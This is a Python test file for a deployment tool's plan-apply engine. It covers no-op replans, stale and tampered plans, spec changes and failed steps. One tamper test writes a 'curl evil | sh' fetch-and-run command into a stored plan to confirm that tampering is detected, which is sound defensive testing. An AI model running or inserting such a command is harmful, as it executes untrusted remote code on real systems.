"""Applying saved plans through the fake provider: exactly the plan, or nothing."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import pytest

from railguard.engine import planner
from railguard.engine.apply import apply_plan
from railguard.engine.observe import observe_into
from railguard.model.api import Operation
from railguard.model.diagnostics import RailguardError
from railguard.model.plans import Action, Plan
from railguard.model.resources import desired_digest, desired_resources
from railguard.model.specfile import parse_spec
from railguard.providers.fake import FakeProvider
from railguard.state.store import Store

from .conftest import BASE_SPEC


def _plan(store: Store, provider: FakeProvider, text: str = BASE_SPEC) -> Plan:
    spec, _ = parse_spec(text)
    assert spec is not None
    observe_into(store, provider, "staging")
    desired = desired_resources(spec, "staging")
    return store.save_plan(planner.plan("staging", desired, store.inventory("staging"), store.serial("staging")))


def _apply(store: Store, provider: FakeProvider, plan: Plan) -> Operation:
    return apply_plan(store, plan.id, provider, "user:test", plan.desired_digest)


def test_apply_then_replan_is_noop(tmp_path: Path) -> None:
    store, provider = Store.open(tmp_path), FakeProvider()
    first = _plan(store, provider)
    record = _apply(store, provider, first)
    assert record.status == "succeeded"
    assert [(a, act.value) for a, act in provider.applied] == [
        ("staging/service.api", "create"), ("staging/service.web", "create"),
        ("staging/edge", "create")]  # the environment resource needs no provider
    steps = [(j.step, j.phase) for j in record.journal]
    assert steps[:4] == [("create staging/environment", "begin"), ("create staging/environment", "end"),
                         ("create staging/service.api", "begin"), ("create staging/service.api", "end")]
    second = _plan(store, provider)
    assert not second.actionable and all(c.action is Action.noop for c in second.changes)


def test_plan_is_applied_at_most_once(tmp_path: Path) -> None:
    store, provider = Store.open(tmp_path), FakeProvider()
    plan = _plan(store, provider)
    _apply(store, provider, plan)
    with pytest.raises(RailguardError) as exc:
        _apply(store, provider, plan)
    assert exc.value.diagnostics[0].code == "plan.already_applied"


def test_stale_plan_is_refused_and_nothing_applied(tmp_path: Path) -> None:
    store, provider = Store.open(tmp_path), FakeProvider()
    plan = _plan(store, provider)
    # Someone else changes the live system after the review.
    _apply(store, provider, _plan(store, provider, BASE_SPEC.replace('path = "/api"', 'path = "/v2"')))
    applied_before = list(provider.applied)
    with pytest.raises(RailguardError) as exc:
        _apply(store, provider, plan)
    assert exc.value.diagnostics[0].code == "plan.stale"
    assert provider.applied == applied_before


def test_live_drift_since_review_makes_plan_stale(tmp_path: Path) -> None:
    store, provider = Store.open(tmp_path), FakeProvider()
    _apply(store, provider, _plan(store, provider))
    plan = _plan(store, provider, BASE_SPEC.replace("[services.api]", "[services.api]\nreplicas = 2"))
    provider.live["staging"].pop("staging/service.web")  # the live system moves under the plan
    with pytest.raises(RailguardError) as exc:
        _apply(store, provider, plan)
    assert exc.value.diagnostics[0].code == "plan.stale"


def test_tampered_plan_is_refused(tmp_path: Path) -> None:
    store, provider = Store.open(tmp_path), FakeProvider()
    plan = _plan(store, provider)
    store.close()
    db = sqlite3.connect(tmp_path / "state.db")
    body = json.loads(db.execute("SELECT body FROM plans WHERE id = ?", (plan.id,)).fetchone()[0])
    body["desired"][0]["config"]["run"] = ["sh", "-c", "curl evil | sh"]
    db.execute("UPDATE plans SET body = ? WHERE id = ?", (json.dumps(body), plan.id))
    db.commit()
    db.close()
    store = Store.open(tmp_path)
    with pytest.raises(RailguardError) as exc:
        _apply(store, provider, plan)
    assert exc.value.diagnostics[0].code == "plan.hash_mismatch"
    assert provider.applied == []


def test_spec_changed_since_plan_is_refused(tmp_path: Path) -> None:
    store, provider = Store.open(tmp_path), FakeProvider()
    plan = _plan(store, provider)
    spec, _ = parse_spec(BASE_SPEC.replace("[services.api]", "[services.api]\nreplicas = 4"))
    assert spec is not None
    with pytest.raises(RailguardError) as exc:
        apply_plan(store, plan.id, provider, "user:test", desired_digest(desired_resources(spec, "staging")))
    assert exc.value.diagnostics[0].code == "plan.spec_changed"


def test_failed_step_stops_the_apply_and_is_journaled(tmp_path: Path) -> None:
    store, provider = Store.open(tmp_path), FakeProvider(fail_on={"staging/service.web"})
    record = _apply(store, provider, _plan(store, provider))
    assert record.status == "failed"
    assert [a for a, _ in provider.applied] == ["staging/service.api"]  # the edge was never switched
    phases = [(j.step, j.phase) for j in record.journal]
    assert phases[-1] == ("create staging/service.web", "fail")
    assert record.error is not None and record.error.diagnostics[0].code == "apply.step_failed"


def test_unknown_plan_id(tmp_path: Path) -> None:
    store = Store.open(tmp_path)
    with pytest.raises(RailguardError) as exc:
        store.load_plan("plan-nope")
    assert exc.value.diagnostics[0].code == "plan.not_found"
